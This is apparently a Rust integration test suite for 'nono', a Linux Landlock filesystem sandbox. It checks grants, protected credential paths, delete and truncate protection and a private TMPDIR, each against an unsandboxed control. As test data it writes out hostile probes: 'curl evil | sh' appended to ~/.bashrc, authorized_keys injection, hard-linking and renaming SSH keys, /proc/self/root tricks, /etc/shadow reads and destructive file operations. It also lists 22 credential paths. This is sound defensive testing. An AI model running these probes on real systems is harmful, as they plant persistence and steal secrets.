//! The filesystem sandbox: grants, protected paths, delete protection, the
//! private TMPDIR, fd hygiene, inheritance and `--dry-run`.
//!
//! Every denial has an unsandboxed control (the same action succeeds
//! without nono) and checks the effect (content intact, marker not
//! printed, no file created), not only the exit status.

// Linux-only: Landlock semantics (truncation, carve-outs, /proc, REFER)
// and Linux-only probes. The macOS suite is tests/it/macos.rs.
#![cfg(target_os = "linux")]

use crate::common;

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::Stdio;

use common::*;

/// `/usr/bin/python3 -c CODE` under nono (no shell in between).
fn py(env: &TestEnv, grants: &[&str], code: &str) -> Run {
    env.sandboxed(grants, &[PYTHON, "-c", code])
}

fn py_plain(env: &TestEnv, code: &str) -> Run {
    env.plain(&[PYTHON, "-c", code])
}

// ---------------------------------------------------------------------------
// Grants
// ---------------------------------------------------------------------------

#[test]
fn granted_directory_is_readable_and_writable() {
    let env = TestEnv::new();
    env.sandboxed_sh(&["--allow", "."], "cat keep.txt && echo new >> new.txt")
        .expect_ok()
        .expect_stdout_has("precious");
    assert_eq!(read(&env.work.join("new.txt")), "new\n");
}

#[test]
fn allow_creates_files_and_dirs_and_appends() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    env.sandboxed_sh(
        &["--allow", "."],
        "echo more >> keep.txt && mkdir -p sub/deeper && echo x > sub/deeper/f \
         && ln -s keep.txt link && cat link && mkfifo fifo && ls",
    )
    .expect_ok()
    .expect_stdout_has("precious\nmore");
    assert_eq!(read(&env.work.join("keep.txt")), "precious\nmore\n");
    assert_eq!(read(&env.work.join("sub/deeper/f")), "x\n");
    assert!(env.work.join("fifo").exists());
}

#[test]
fn ungranted_directory_is_unreadable() {
    let env = TestEnv::new();
    let script = format!("cat {}/marker.txt", sh_path(&env.outside));
    env.plain_sh(&script).expect_ok().expect_stdout_has(SECRET);
    env.sandboxed_sh(&["--allow", "."], &script)
        .expect_fail()
        .expect_stdout_lacks(SECRET);
    // Nothing granted at all: not even the work directory.
    env.plain_sh("cat keep.txt").expect_ok();
    env.sandboxed_sh(&[], "cat keep.txt; ls .")
        .expect_fail()
        .expect_stdout_lacks("precious")
        .expect_stdout_lacks("keep.txt");
}

#[test]
fn ungranted_directory_is_not_writable() {
    let env = TestEnv::new();
    let o = sh_path(&env.outside);
    let script = format!("echo planted > {o}/planted.txt");
    env.sandboxed_sh(&["--allow", "."], &script).expect_fail();
    assert!(!env.outside.join("planted.txt").exists());
    env.plain_sh(&script).expect_ok();
    assert!(env.outside.join("planted.txt").exists());
}

#[test]
fn read_grant_reads_but_does_not_write() {
    let env = TestEnv::new();
    let o = sh_path(&env.outside);
    env.sandboxed_sh(&["--read", "../outside"], &format!("cat {o}/marker.txt"))
        .expect_ok()
        .expect_stdout_has(SECRET);
    for script in [
        format!("echo overwritten > {o}/marker.txt"),
        format!("echo appended >> {o}/marker.txt"),
        format!("echo new > {o}/new.txt"),
        format!("mkdir {o}/newdir"),
    ] {
        env.sandboxed_sh(&["--read", "../outside"], &script)
            .expect_fail();
    }
    assert_eq!(read(&env.outside.join("marker.txt")), SECRET);
    assert!(!env.outside.join("new.txt").exists());
    assert!(!env.outside.join("newdir").exists());
    // Control: the same writes work without nono.
    env.plain_sh(&format!(
        "echo appended >> {o}/marker.txt && echo new > {o}/new.txt"
    ))
    .expect_ok();
    assert_eq!(read(&env.outside.join("new.txt")), "new\n");
}

#[test]
fn write_grant_writes_but_does_not_read() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    let o = sh_path(&env.outside);
    env.sandboxed_sh(
        &["--write", "../outside"],
        &format!("echo new > {o}/new.txt && echo more >> {o}/marker.txt"),
    )
    .expect_ok();
    assert_eq!(read(&env.outside.join("new.txt")), "new\n");
    assert_eq!(
        read(&env.outside.join("marker.txt")),
        format!("{SECRET}more\n")
    );
    let script = format!("cat {o}/marker.txt; cat {o}/new.txt; ls {o}");
    env.plain_sh(&script).expect_ok().expect_stdout_has(SECRET);
    env.sandboxed_sh(&["--write", "../outside"], &script)
        .expect_fail()
        .expect_stdout_lacks(SECRET)
        .expect_stdout_lacks("new")
        .expect_stdout_lacks("marker.txt");
}

#[test]
fn file_grant_covers_the_file_not_its_siblings() {
    let env = TestEnv::new();
    fs::write(env.outside.join("sibling.txt"), SECRET).unwrap();
    let o = sh_path(&env.outside);
    let grant = ["--read", "../outside/marker.txt"];
    env.sandboxed_sh(&grant, &format!("cat {o}/marker.txt"))
        .expect_ok()
        .expect_stdout_has(SECRET);
    let script = format!("cat {o}/sibling.txt");
    env.plain_sh(&script).expect_ok().expect_stdout_has(SECRET);
    env.sandboxed_sh(&grant, &script)
        .expect_fail()
        .expect_stdout_lacks(SECRET);
    env.sandboxed_sh(&grant, &format!("ls {o}"))
        .expect_fail()
        .expect_stdout_lacks("sibling");

    // An --allow on a file: write and append it, but create nothing next to it.
    fs::write(env.outside.join("log.txt"), "start\n").unwrap();
    let grant = ["--allow", "../outside/log.txt"];
    env.sandboxed_sh(&grant, &format!("echo more >> {o}/log.txt"))
        .expect_ok();
    assert_eq!(read(&env.outside.join("log.txt")), "start\nmore\n");
    env.sandboxed_sh(&grant, &format!("echo x > {o}/created.txt"))
        .expect_fail();
    assert!(!env.outside.join("created.txt").exists());
}

#[test]
fn relative_paths_resolve_against_the_current_directory() {
    let env = TestEnv::new();
    fs::create_dir(env.work.join("sub")).unwrap();
    fs::write(env.work.join("sub/in.txt"), "inside sub\n").unwrap();
    // `./sub` grants sub only, not the rest of the work directory.
    env.sandboxed_sh(&["--read", "./sub"], "cat sub/in.txt")
        .expect_ok()
        .expect_stdout_has("inside sub");
    env.sandboxed_sh(&["--read", "sub"], "cat keep.txt")
        .expect_fail()
        .expect_stdout_lacks("precious");
    env.sandboxed_sh(
        &["--read", "sub/../../outside"],
        "cat ../outside/marker.txt",
    )
    .expect_ok()
    .expect_stdout_has(SECRET);
}

#[test]
fn tilde_paths_use_home() {
    let env = TestEnv::new();
    // The argument reaches nono unexpanded: nono expands `~` itself.
    env.sandboxed_sh(&["--read", "~/notes"], "cat \"$HOME/notes/todo.txt\"")
        .expect_ok()
        .expect_stdout_has("todo");
    env.sandboxed_sh(
        &["--read", "~/notes/todo.txt"],
        "cat \"$HOME/notes/todo.txt\"",
    )
    .expect_ok()
    .expect_stdout_has("todo");
    // It is HOME's directory, not some other one.
    env.sandboxed_sh(&["--read", "~/notes"], "cat keep.txt")
        .expect_fail()
        .expect_stdout_lacks("precious");
    env.nono(["run", "--dry-run", "--read", "~/notes", "--", "/bin/true"])
        .expect_ok()
        .expect_stdout_has(&sh_path(&env.home.join("notes")));
}

#[test]
fn symlink_grant_applies_to_its_target() {
    let env = TestEnv::new();
    std::os::unix::fs::symlink(&env.outside, env.work.join("link")).unwrap();
    let o = sh_path(&env.outside);
    // Reached through the link and by the real path.
    env.sandboxed_sh(
        &["--read", "link"],
        &format!("cat link/marker.txt && cat {o}/marker.txt"),
    )
    .expect_ok()
    .expect_stdout_has(&format!("{SECRET}{SECRET}"));
    // Without the grant neither works.
    env.sandboxed_sh(&["--read", "./keep.txt"], "cat link/marker.txt")
        .expect_fail()
        .expect_stdout_lacks(SECRET);
    // --dry-run shows the link as given and the target it resolved to.
    env.nono(["run", "--dry-run", "--read", "link", "--", "/bin/true"])
        .expect_ok()
        .expect_stdout_has("--read link")
        .expect_stdout_has(&o);
}

#[test]
fn overlapping_grants_merge() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    let o = sh_path(&env.outside);
    // --read and --write on the same directory add up to read and write.
    env.sandboxed_sh(
        &["--read", "../outside", "--write", &o],
        &format!("cat {o}/marker.txt && echo w > {o}/w.txt"),
    )
    .expect_ok()
    .expect_stdout_has(SECRET);
    assert_eq!(read(&env.outside.join("w.txt")), "w\n");
    // A nested grant adds to its parent's: read everywhere, write in sub.
    fs::create_dir(env.outside.join("sub")).unwrap();
    let grants = ["--read", "../outside", "--allow", "../outside/sub"];
    env.sandboxed_sh(
        &grants,
        &format!("echo s > {o}/sub/s.txt && cat {o}/marker.txt"),
    )
    .expect_ok()
    .expect_stdout_has(SECRET);
    env.sandboxed_sh(&grants, &format!("echo s > {o}/top.txt"))
        .expect_fail();
    assert!(!env.outside.join("top.txt").exists());
    // The same directory named three ways is one rule naming each flag.
    let r = env.nono([
        "run",
        "--dry-run",
        "--read",
        "../outside",
        "--write",
        &o,
        "--read",
        "../work/../outside/",
        "--",
        "/bin/true",
    ]);
    r.expect_ok();
    let lines: Vec<&str> = r
        .out
        .stdout
        .split(|b| *b == b'\n')
        .filter_map(|l| std::str::from_utf8(l).ok())
        .filter(|l| l.contains(&format!(" {o} ")))
        // The mount plan's lines (`writable  PATH  ...`) and the
        // environment's (`set  NAME: ... PATH ...`) are not rules.
        .filter(|l| !l.trim_start().starts_with("writable"))
        .filter(|l| !l.trim_start().starts_with("set "))
        .collect();
    assert_eq!(lines.len(), 1, "one rule expected\n{r}");
    assert!(
        lines[0].contains("--read") && lines[0].contains("--write"),
        "{r}"
    );
    assert!(lines[0].trim_start().starts_with("rxw"), "{r}");
}

// ---------------------------------------------------------------------------
// Protected paths
// ---------------------------------------------------------------------------

const HOME_SECRETS: [&str; 5] = [
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".netrc",
    ".config/gh/hosts.yml",
    ".bashrc",
];

#[test]
fn allow_home_keeps_secrets_out() {
    let env = TestEnv::new();
    for rel in HOME_SECRETS {
        let script = format!("cat \"$HOME/{rel}\"");
        env.plain_sh(&script).expect_ok().expect_stdout_has(SECRET);
        // The home itself, and a grant of a directory above it (here the
        // test root, which holds home, work and outside).
        for grant in [&["--allow", "~"][..], &["--allow", ".."], &["--read", "/"]] {
            let run = env.sandboxed_sh(grant, &script);
            // With the mount layer a protected file reads as empty (it is
            // masked) rather than failing; either way no secret.
            if !mount_layer_active() {
                run.expect_fail();
            }
            run.expect_stdout_lacks(SECRET);
        }
    }
    env.sandboxed_sh(&["--allow", ".."], "cat ../outside/marker.txt")
        .expect_ok()
        .expect_stdout_has(SECRET);
    // Listing the protected directories fails too (with the mount layer
    // they list as empty).
    let run = env.sandboxed_sh(&["--allow", "~"], "ls \"$HOME/.ssh\" \"$HOME/.aws\"");
    if !mount_layer_active() {
        run.expect_fail();
    }
    run.expect_stdout_lacks("id_ed25519")
        .expect_stdout_lacks("credentials");
}

/// The contract's credential list, planted for real: files, or a file inside
/// a directory.
const CONTRACT_SECRETS: [&str; 22] = [
    ".ssh/id_rsa",
    ".gnupg/private-keys-v1.d/key",
    ".aws/config",
    ".azure/accessTokens.json",
    ".config/gcloud/credentials.db",
    ".kube/config",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".config/gh/hosts.yml",
    ".password-store/bank.gpg",
    ".local/share/keyrings/login.keyring",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".bashrc",
    ".profile",
    ".zshrc",
    ".bash_profile",
    ".config/fish/config.fish",
];

#[test]
fn every_contract_credential_is_protected() {
    let env = TestEnv::new();
    for rel in CONTRACT_SECRETS {
        let p = env.home.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, format!("{SECRET} {rel}")).unwrap();
    }
    let script: String = CONTRACT_SECRETS
        .iter()
        .map(|rel| format!("cat \"$HOME/{rel}\"; echo; "))
        .collect();
    let plain = env.plain_sh(&script);
    for rel in CONTRACT_SECRETS {
        plain.expect_stdout_has(&format!("{SECRET} {rel}"));
    }
    env.sandboxed_sh(&["--allow", "~"], &script)
        .expect_stdout_lacks(SECRET);
    for rel in CONTRACT_SECRETS {
        // The entry itself, and its protected directory where it has one
        // (~/.config and ~/.local only hold protected entries).
        let top: String = rel.split('/').next().unwrap().to_string();
        let mut names = vec![rel.to_string()];
        if top != ".config" && top != ".local" {
            names.push(top);
        }
        for name in names {
            env.nono(["run", "--read", &format!("~/{name}"), "--", "/bin/true"])
                .expect_nono_error("protected");
        }
    }
}

#[test]
fn allow_home_carve_out_keeps_the_rest_reachable() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    env.sandboxed_sh(
        &["--allow", "~"],
        "cat \"$HOME/notes/todo.txt\" \"$HOME/.config/app/settings\" \
         && echo added >> \"$HOME/notes/todo.txt\" && echo n > \"$HOME/notes/new.txt\"",
    )
    .expect_ok()
    .expect_stdout_has("todo")
    .expect_stdout_has("app settings");
    assert_eq!(read(&env.home.join("notes/todo.txt")), "todo\nadded\n");
    assert_eq!(read(&env.home.join("notes/new.txt")), "n\n");
}

#[test]
fn allow_home_cannot_write_startup_files() {
    let env = TestEnv::new();
    let before = read(&env.home.join(".bashrc"));
    for script in [
        "echo 'curl evil | sh' >> \"$HOME/.bashrc\"",
        "echo 'curl evil | sh' > \"$HOME/.bashrc\"",
        "echo 'curl evil | sh' > \"$HOME/.profile\"",
        "echo key >> \"$HOME/.ssh/authorized_keys\"",
    ] {
        env.sandboxed_sh(&["--allow", "~"], script).expect_fail();
    }
    assert_eq!(read(&env.home.join(".bashrc")), before);
    assert!(!env.home.join(".profile").exists());
    assert!(!env.home.join(".ssh/authorized_keys").exists());
    // Control.
    let ctl = TestEnv::new();
    ctl.plain_sh("echo 'curl evil | sh' >> \"$HOME/.bashrc\"")
        .expect_ok();
    assert_ne!(read(&ctl.home.join(".bashrc")), before);
}

#[test]
fn allow_home_does_not_cover_new_entries_directly_in_home() {
    let env = TestEnv::new();
    let script = "echo x > \"$HOME/.aws2\"";
    env.sandboxed_sh(&["--allow", "~"], script).expect_fail();
    assert!(!env.home.join(".aws2").exists());
    // Control.
    env.plain_sh(script).expect_ok();
    assert!(env.home.join(".aws2").exists());
    // --dry-run says so, naming the home directory.
    env.nono(["run", "--dry-run", "--allow", "~", "--", "/bin/true"])
        .expect_ok()
        .expect_stdout_has("carve-out")
        .expect_stdout_has("not covered")
        .expect_stdout_has(&format!("  {}  (from the grant of", sh_path(&env.home)));
}

#[test]
fn symlinked_dotfiles_stay_protected() {
    // GNU stow style: ~/.ssh and ~/.bashrc are symlinks into ~/dotfiles.
    let env = TestEnv::new();
    let dot = env.home.join("dotfiles");
    fs::create_dir_all(dot.join("ssh")).unwrap();
    fs::rename(env.home.join(".ssh/id_ed25519"), dot.join("ssh/id_ed25519")).unwrap();
    fs::remove_dir(env.home.join(".ssh")).unwrap();
    std::os::unix::fs::symlink("dotfiles/ssh", env.home.join(".ssh")).unwrap();
    fs::rename(env.home.join(".bashrc"), dot.join("bashrc")).unwrap();
    std::os::unix::fs::symlink("dotfiles/bashrc", env.home.join(".bashrc")).unwrap();
    fs::write(dot.join("vimrc"), "set nu\n").unwrap();

    for script in [
        "cat \"$HOME/.ssh/id_ed25519\"",
        "cat \"$HOME/dotfiles/ssh/id_ed25519\"",
        "cat \"$HOME/.bashrc\"",
        "cat \"$HOME/dotfiles/bashrc\"",
    ] {
        env.plain_sh(script).expect_ok().expect_stdout_has(SECRET);
        for grant in [&["--allow", "~"][..], &["--read", "~/dotfiles"]] {
            let run = env.sandboxed_sh(grant, script);
            // Masked by the mount layer: reads as empty instead of failing.
            if !mount_layer_active() {
                run.expect_fail();
            }
            run.expect_stdout_lacks(SECRET);
        }
    }
    // The rest of the dotfiles directory is granted.
    env.sandboxed_sh(&["--read", "~/dotfiles"], "cat \"$HOME/dotfiles/vimrc\"")
        .expect_ok()
        .expect_stdout_has("set nu");
    // Naming the target of a protected symlink is refused as well.
    env.nono(["run", "--read", "~/dotfiles/ssh", "--", "/bin/true"])
        .expect_nono_error("protected");
}

#[test]
fn home_reached_through_a_symlink_is_protected_both_ways() {
    let env = TestEnv::new();
    let link = env.root.join("homelink");
    std::os::unix::fs::symlink(&env.home, &link).unwrap();
    let mut cmd = env.command([
        "run",
        "--allow",
        "~",
        "--",
        "/bin/sh",
        "-c",
        "cat \"$HOME/notes/todo.txt\"; cat \"$HOME/.ssh/id_ed25519\"; \
         cat ../home/.ssh/id_ed25519",
    ]);
    cmd.env("HOME", &link);
    Run::from(cmd)
        .expect_fail()
        .expect_stdout_has("todo")
        .expect_stdout_lacks(SECRET);
    let mut cmd = env.command(["run", "--read", "../home/.ssh", "--", "/bin/true"]);
    cmd.env("HOME", &link);
    Run::from(cmd).expect_nono_error("protected");
}

#[test]
fn the_real_home_stays_protected_when_home_points_elsewhere() {
    // Under sudo HOME is /root, and tools override HOME: the password
    // database's home of the user keeps its protection. TestEnv sets HOME to
    // a fake home, so the real one is "another" home here.
    let Some(real) = real_home() else {
        return skip("this user has no home directory");
    };
    let Some(startup) = [".bashrc", ".profile"]
        .iter()
        .map(|f| real.join(f))
        .find(|p| fs::read(p).is_ok())
    else {
        return skip(format!("no readable start-up file in {}", real.display()));
    };
    let env = TestEnv::new();
    let script = format!("cat {} > /dev/null && echo READ-OK", sh_path(&startup));
    env.plain_sh(&script)
        .expect_ok()
        .expect_stdout_has("READ-OK");
    let real_s = sh_path(&real);
    if mount_layer_active() {
        // Masked: an empty file, whatever the real one holds.
        let size = format!("wc -c < {}", sh_path(&startup));
        env.plain_sh(&size).expect_ok().expect_stdout_lacks("\n0\n");
        let run = env.sandboxed_sh(&["--read", &real_s], &size);
        assert_eq!(run.stdout().trim(), "0", "{run}");
    } else {
        env.sandboxed_sh(&["--read", &real_s], &script)
            .expect_fail()
            .expect_stdout_lacks("READ-OK");
    }
    env.nono(["run", "--read", &sh_path(&startup), "--", "/bin/true"])
        .expect_nono_error("protected");
}

/// The home directory of this user in the password database, if it exists.
fn real_home() -> Option<std::path::PathBuf> {
    let uid = fs::metadata("/proc/self").ok().map(|m| {
        use std::os::unix::fs::MetadataExt;
        m.uid()
    })?;
    let passwd = fs::read_to_string("/etc/passwd").ok()?;
    passwd
        .lines()
        .map(|l| l.split(':').collect::<Vec<_>>())
        .find(|f| f.len() > 5 && f[2].parse() == Ok(uid))
        .map(|f| std::path::PathBuf::from(f[5]))
        .filter(|h| h.is_dir() && h != Path::new("/"))
}

#[test]
fn naming_a_protected_path_is_refused() {
    let env = TestEnv::new();
    std::os::unix::fs::symlink(env.home.join(".ssh"), env.work.join("keys")).unwrap();
    let proc_root = format!("/proc/self/root{}/.ssh", sh_path(&env.home));
    let cases: &[&[&str]] = &[
        &["--read", "~/.ssh"],
        &["--allow", "~/.ssh/id_ed25519"],
        &["--write", "~/.bashrc"],
        &["--read", "~/.config/gh"],
        &["--read", "~/.aws/credentials"],
        &["--read", "~/notes/../.ssh"],
        &["--read", "keys"],
        &["--read", "keys/id_ed25519"],
        &["--read", &proc_root],
        &["--read", "/etc/shadow"],
        // Absent protected paths are refused by name too.
        &["--allow", "~/.gnupg"],
        &["--allow", "~/.kube/config"],
    ];
    for grant in cases {
        let mut args = vec!["run"];
        args.extend_from_slice(grant);
        args.extend_from_slice(&["--", "/bin/sh", "-c", "echo ran > ran.txt"]);
        env.nono(&args).expect_nono_error("protected");
        assert!(!env.work.join("ran.txt").exists(), "{grant:?} ran");
    }
    // Also for --dry-run: it must not present a policy that run refuses.
    env.nono(["run", "--dry-run", "--read", "~/.ssh", "--", "/bin/true"])
        .expect_nono_error("protected");
}

#[test]
fn symlink_planted_inside_the_sandbox_does_not_reach_secrets() {
    let env = TestEnv::new();
    let script = "ln -s \"$HOME/.ssh/id_ed25519\" key && cat key";
    let ctl = TestEnv::new();
    ctl.plain_sh(script).expect_ok().expect_stdout_has(SECRET);
    let r = env.sandboxed_sh(&["--allow", "."], script);
    r.expect_fail().expect_stdout_lacks(SECRET);
    // The link itself may be created (it is only a name), reading through it fails.
    assert!(fs::symlink_metadata(env.work.join("key")).is_ok(), "{r}");
    // Also when the home is granted: the carve-out has no rule for ~/.ssh.
    env.sandboxed_sh(&["--allow", ".", "--allow", "~"], "cat key")
        .expect_fail()
        .expect_stdout_lacks(SECRET);
}

// Linux only: it probes with truncation, which Seatbelt cannot deny apart
// from writing (see src/sandbox/seatbelt.rs); tests/it/macos.rs checks unlink
// and rename there.
#[cfg(target_os = "linux")]
#[test]
fn hard_link_of_a_secret_into_the_work_dir_fails() {
    let env = TestEnv::new();
    let ctl = TestEnv::new();
    let script = "ln \"$HOME/.ssh/id_ed25519\" stolen && cat stolen";
    ctl.plain_sh(script).expect_ok().expect_stdout_has(SECRET);
    env.sandboxed_sh(&["--allow", "."], script)
        .expect_fail()
        .expect_stdout_lacks(SECRET);
    assert!(!env.work.join("stolen").exists());
    let code = "import os; os.link(os.environ['HOME'] + '/.ssh/id_ed25519', 'stolen2')";
    py(&env, &["--allow", "."], code).expect_fail();
    assert!(!env.work.join("stolen2").exists());
}

#[test]
fn moving_secrets_into_the_work_dir_fails() {
    let code = "import os, sys; h = os.environ['HOME']; \
                os.rename(h + '/.ssh', 'ssh'); os.rename(h + '/.netrc', 'netrc'); \
                print(open('ssh/id_ed25519').read())";
    let ctl = TestEnv::new();
    py_plain(&ctl, code).expect_ok().expect_stdout_has(SECRET);
    assert!(!ctl.home.join(".ssh").exists());

    let env = TestEnv::new();
    for grants in [
        &["--allow", "."][..],
        &["--allow", ".", "--allow-delete", "."],
    ] {
        py(&env, grants, code)
            .expect_fail()
            .expect_stdout_lacks(SECRET);
        assert_eq!(read(&env.home.join(".ssh/id_ed25519")), SECRET);
        assert_eq!(read(&env.home.join(".netrc")), SECRET);
        assert!(!env.work.join("ssh").exists());
        assert!(!env.work.join("netrc").exists());
    }
    // The whole home granted with delete: still no way to move ~/.ssh.
    py(
        &env,
        &["--allow", ".", "--allow-delete", ".", "--allow", "~"],
        code,
    )
    .expect_fail()
    .expect_stdout_lacks(SECRET);
    assert_eq!(read(&env.home.join(".ssh/id_ed25519")), SECRET);
}

#[test]
#[cfg(target_os = "linux")]
fn proc_root_paths_do_not_reach_secrets() {
    let env = TestEnv::new();
    for script in [
        "cat /proc/self/root\"$HOME/.ssh/id_ed25519\"",
        "cat /proc/$$/root\"$HOME/.ssh/id_ed25519\"",
        // The parent of the command is outside the sandbox.
        "cat /proc/$PPID/root\"$HOME/.ssh/id_ed25519\"",
    ] {
        env.plain_sh(script).expect_ok().expect_stdout_has(SECRET);
        env.sandboxed_sh(&["--allow", ".", "--allow", "~"], script)
            .expect_fail()
            .expect_stdout_lacks(SECRET);
    }
}

#[test]
#[cfg(target_os = "linux")]
fn etc_shadow_is_unreadable_even_as_root() {
    let env = TestEnv::new();
    if Path::new("/etc/gshadow").exists() {
        let script = "head -c 64 /etc/gshadow && echo READ-OK";
        if is_root() {
            env.plain_sh(script)
                .expect_ok()
                .expect_stdout_has("READ-OK");
        }
        env.sandboxed_sh(&["--allow", "."], script)
            .expect_fail()
            .expect_stdout_lacks("READ-OK");
    }
    let script = "head -c 64 /etc/shadow && echo READ-OK";
    if is_root() {
        env.plain_sh(script)
            .expect_ok()
            .expect_stdout_has("READ-OK");
    } else {
        skip("the control: only root can read /etc/shadow");
    }
    env.sandboxed_sh(&["--allow", "."], script)
        .expect_fail()
        .expect_stdout_lacks("READ-OK")
        .expect_stdout_lacks("root:");
}

// ---------------------------------------------------------------------------
// Delete and truncate protection
// ---------------------------------------------------------------------------

/// What the destructive probes can change in the work directory.
#[derive(Debug, PartialEq, Eq)]
struct WorkState {
    keep: Option<String>,
    other: Option<String>,
    emptydir: bool,
}

fn prepare_delete_probes(env: &TestEnv) -> WorkState {
    fs::write(env.work.join("other.txt"), "other\n").unwrap();
    fs::create_dir(env.work.join("emptydir")).unwrap();
    fs::create_dir(env.work.join("sub")).unwrap();
    work_state(env)
}

fn work_state(env: &TestEnv) -> WorkState {
    WorkState {
        keep: fs::read_to_string(env.work.join("keep.txt")).ok(),
        other: fs::read_to_string(env.work.join("other.txt")).ok(),
        emptydir: env.work.join("emptydir").is_dir(),
    }
}

/// Each changes keep.txt, other.txt or emptydir by deleting, truncating or
/// renaming, through a different program or syscall.
fn destructive_probes() -> Vec<(&'static str, String)> {
    let py = |code: &str| format!("{PYTHON} -c \"import os; {code}\"");
    let mut probes = vec![
        ("unlink", py("os.unlink('keep.txt')")),
        ("rmdir", py("os.rmdir('emptydir')")),
        ("rename in place", py("os.rename('keep.txt', 'moved.txt')")),
        (
            "rename over a file",
            py("os.rename('other.txt', 'keep.txt')"),
        ),
        (
            "atomic save",
            format!(
                "echo new > new.tmp && {}",
                py("os.replace('new.tmp', 'keep.txt')")
            ),
        ),
        ("rename a dir", py("os.rename('emptydir', 'renamed')")),
        (
            "move to subdir",
            py("os.rename('keep.txt', 'sub/keep.txt')"),
        ),
        (
            "RENAME_EXCHANGE",
            format!(
                "echo swapped > new.tmp && {}",
                py("import ctypes; l = ctypes.CDLL(None, use_errno=True); \
                    r = l.renameat2(-100, b'new.tmp', -100, b'keep.txt', 2); \
                    exit(ctypes.get_errno() if r else 0)")
            ),
        ),
        ("O_TRUNC by the shell", ": > keep.txt".into()),
        ("O_TRUNC by python", py("open('keep.txt', 'w')")),
        (
            "O_RDONLY|O_TRUNC",
            py("os.open('keep.txt', os.O_RDONLY | os.O_TRUNC)"),
        ),
        ("truncate()", py("os.truncate('keep.txt', 0)")),
        (
            "ftruncate()",
            py("f = open('keep.txt', 'r+'); f.truncate(0)"),
        ),
        ("find -delete", "find . -name keep.txt -delete".into()),
        ("sed -i", "sed -i s/precious/gone/ keep.txt".into()),
        // rm and truncate may be on the command blocklist too; either way
        // they must fail and leave the file.
        ("rm", "/bin/rm keep.txt".into()),
        ("rmdir(1)", "/bin/rmdir emptydir".into()),
        ("truncate(1)", "/usr/bin/truncate -s 0 keep.txt".into()),
    ];
    if have("/usr/bin/perl") {
        probes.push((
            "perl unlink",
            "perl -e 'unlink(\"keep.txt\") or die \"$!\"'".into(),
        ));
    }
    probes
}

#[test]
fn delete_rename_and_truncate_are_denied_by_the_kernel() {
    for (name, script) in destructive_probes() {
        // Control: the probe really destroys something without nono.
        let ctl = TestEnv::new();
        let initial = prepare_delete_probes(&ctl);
        ctl.plain_sh(&script).expect_ok();
        assert_ne!(
            work_state(&ctl),
            initial,
            "control of {name} changed nothing"
        );

        let env = TestEnv::new();
        let initial = prepare_delete_probes(&env);
        let r = env.sandboxed_sh(&["--allow", "."], &script);
        r.expect_fail();
        assert_eq!(
            work_state(&env),
            initial,
            "{name} changed the work dir\n{r}"
        );
        assert!(!env.work.join("moved.txt").exists(), "{name}");
        assert!(!env.work.join("sub/keep.txt").exists(), "{name}");
    }
}

#[test]
fn allow_delete_lifts_the_protection() {
    if below_scoped_truncation() {
        return;
    }
    for (name, script) in destructive_probes() {
        if name == "rm" || name == "rmdir(1)" || name == "truncate(1)" {
            // May be blocklisted commands: covered by the python probes.
            continue;
        }
        let env = TestEnv::new();
        let initial = prepare_delete_probes(&env);
        env.sandboxed_sh(&["--allow", ".", "--allow-delete", "."], &script)
            .expect_ok();
        assert_ne!(work_state(&env), initial, "{name} had no effect");
    }
}

#[test]
fn append_and_create_work_under_delete_protection() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    env.sandboxed_sh(
        &["--allow", "."],
        "echo more >> keep.txt && echo fresh > fresh.txt && mkdir d && echo in > d/f",
    )
    .expect_ok();
    assert_eq!(read(&env.work.join("keep.txt")), "precious\nmore\n");
    assert_eq!(read(&env.work.join("fresh.txt")), "fresh\n");
    assert_eq!(read(&env.work.join("d/f")), "in\n");
    // Even a file the command created itself cannot be removed again.
    env.sandboxed_sh(
        &["--allow", "."],
        &format!("echo t > t && {PYTHON} -c \"import os; os.unlink('t')\""),
    )
    .expect_fail();
    assert!(env.work.join("t").exists());
}

#[test]
fn allow_delete_is_limited_to_its_path() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    fs::create_dir(env.work.join("build")).unwrap();
    fs::write(env.work.join("build/out.o"), "obj").unwrap();
    let grants = ["--allow", ".", "--allow-delete", "./build"];
    py(&env, &grants, "import os; os.unlink('build/out.o')").expect_ok();
    assert!(!env.work.join("build/out.o").exists());
    py(&env, &grants, "import os; os.unlink('keep.txt')").expect_fail();
    assert_eq!(read(&env.work.join("keep.txt")), "precious\n");
}

#[test]
fn allow_delete_outside_a_write_grant_is_refused() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    for args in [
        &["--allow-delete", "."][..],
        &["--read", ".", "--allow-delete", "."],
        &["--allow", ".", "--allow-delete", "../outside"],
        &["--allow", "./keep.txt", "--allow-delete", "."],
    ] {
        let mut a = vec!["run"];
        a.extend_from_slice(args);
        a.extend_from_slice(&["--", "/bin/sh", "-c", "echo ran > ran.txt"]);
        env.nono(&a).expect_nono_error("--allow-delete");
        assert!(!env.work.join("ran.txt").exists());
    }
    // --write is a write grant.
    env.sandboxed_sh(&["--write", ".", "--allow-delete", "."], "true")
        .expect_ok();
}

#[test]
#[cfg(target_os = "linux")]
fn device_nodes_cannot_be_created() {
    // Only root may mknod a character device; the sandbox never grants it.
    if !is_root() {
        return skip("mknod of a device needs root for the control");
    }
    let env = TestEnv::new();
    let script = "mknod null c 1 3 && echo made";
    let ctl = TestEnv::new();
    ctl.plain_sh(script).expect_ok().expect_stdout_has("made");
    env.sandboxed_sh(&["--allow", ".", "--allow-delete", "."], script)
        .expect_fail()
        .expect_stdout_lacks("made");
    assert!(fs::symlink_metadata(env.work.join("null")).is_err());
}

// ---------------------------------------------------------------------------
// The private TMPDIR
// ---------------------------------------------------------------------------

/// A nono command whose TMPDIR base is private to this test, so that runs
/// of other tests never touch the directories this test watches.
fn with_tmp(env: &TestEnv, args: &[&str]) -> std::process::Command {
    let base = env.root.join("tmp");
    fs::create_dir_all(&base).unwrap();
    let mut cmd = env.command(args);
    cmd.env("TMPDIR", &base);
    cmd
}

#[test]
fn private_tmpdir_allows_everything() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
